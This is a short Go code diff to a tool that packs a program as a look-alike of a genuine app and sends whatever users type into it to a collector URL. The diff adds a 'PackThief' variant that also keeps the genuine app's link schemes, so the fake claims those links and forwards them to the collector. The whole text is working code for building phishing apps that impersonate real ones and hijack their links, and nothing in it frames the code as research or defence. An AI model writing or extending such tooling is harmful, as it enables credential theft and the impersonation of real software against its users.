@@ -11,7 +11,13 @@ import (
 
 // Pack packs this program as an app that looks like the genuine one, whose package it is
 // given, and writes that to a path. What is typed into it goes to the collector's URL.
-func Pack(genuine, path, collector string) error {
+func Pack(genuine, path, collector string) error { return pack(genuine, path, collector, false) }
+
+// PackThief is the same for an app that claims the genuine one's links as well, and sends them to
+// the collector, too.
+func PackThief(genuine, path, collector string) error { return pack(genuine, path, collector, true) }
+
+func pack(genuine, path, collector string, claims bool) error {
 	_, manifest, assets, err := release.Read(genuine)
 	if err != nil {
 		return fmt.Errorf("take the genuine package apart: %w", err)
@@ -24,7 +30,10 @@ func Pack(genuine, path, collector string) error {
 	if err != nil {
 		return err
 	}
-	manifest.Name, manifest.Schemes = name, nil
+	manifest.Name = name
+	if !claims {
+		manifest.Schemes = nil
+	}
 	assets[collectorAsset] = []byte(collector)
 	if err := release.Pack(path, program, manifest, assets, key); err != nil {
 		return fmt.Errorf("pack the look-alike: %w", err)
